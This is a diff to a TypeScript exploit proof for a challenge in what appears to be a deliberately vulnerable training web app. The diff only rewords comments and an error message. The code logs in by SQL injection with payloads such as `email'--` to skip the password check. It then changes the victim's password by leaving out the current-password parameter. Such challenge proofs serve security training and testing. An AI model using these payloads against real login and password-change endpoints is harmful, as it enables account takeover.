@@ -4,17 +4,17 @@ import { challenge } from './challenge.ts'
 const NEW = 'slurmCl4ssic'
 const OLD = 'OhG0dPlease1nsertLiquor!'
 
-/** Headers of a session that an injection opens: the password is never looked at. */
+/** Returns the headers of a session opened by SQL injection, which skips the password check. */
 async function sessionOf(attacker: Attacker, name: string) {
   const email = `${name}@${attacker.domain}`
   for (const injected of [`${email}'--`, `${email}' or email='${email}`]) {
     const answer = await attacker.post('/rest/user/login', { email: injected, password: 'x' })
     if (answer.status === 200) return { authorization: `Bearer ${answer.json().authentication.token}` }
   }
-  throw new Error('No injection opens a session.')
+  throw new Error('No injection opened a session.')
 }
 
-/** Asks for a new password in a session of Bender's. @param query what stands behind the question mark */
+/** Changes the password in a session of Bender's. @param query query string without the question mark */
 const change =
   (query: string, name = 'bender') =>
   async (attacker: Attacker) =>
@@ -25,7 +25,7 @@ const both = (password: string) => `new=${password}&repeat=${password}`
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
     const headers = await sessionOf(attacker, 'bender')
-    // A wrong one is noticed; none at all is not.
+    // The server checks a wrong current password, but not a missing one.
     await attacker.get(`/rest/user/change-password?current=guess&${both(NEW)}`, { headers })
     await attacker.get(`/rest/user/change-password?${both(NEW)}`, { headers })
   },
